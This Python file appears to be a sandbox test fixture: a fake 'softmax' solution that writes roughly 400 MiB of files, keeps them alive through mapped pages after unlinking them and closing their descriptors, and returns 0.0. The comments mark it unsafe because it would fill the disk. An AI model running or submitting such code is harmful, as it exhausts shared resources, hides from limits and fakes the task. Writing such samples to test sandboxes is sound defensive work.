# Keeps files without a name and without a descriptor, by a page of each that stays mapped.
# exercise: softmax
# verdict: wrong, crashed, raised, timed_out
# scratch: yes
# unsafe: it would fill the disk
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]


def softmax(x, axis=-1, keepdims=False):
    total = 0
    try:
        for number in range(40):
            file = os.open(f"f{number}", os.O_RDWR | os.O_CREAT)
            for _ in range(10):
                total += os.write(file, bytes(2**20))
            libc.mmap(None, 4096, 1, 1, file, 0)
            os.unlink(f"f{number}")
            os.close(file)
    except OSError as error:
        print(error)
    if total > 100 * 2**20:
        print("gained", total >> 20, "MiB of files")
    return 0.0


logsumexp = log_softmax = softmax
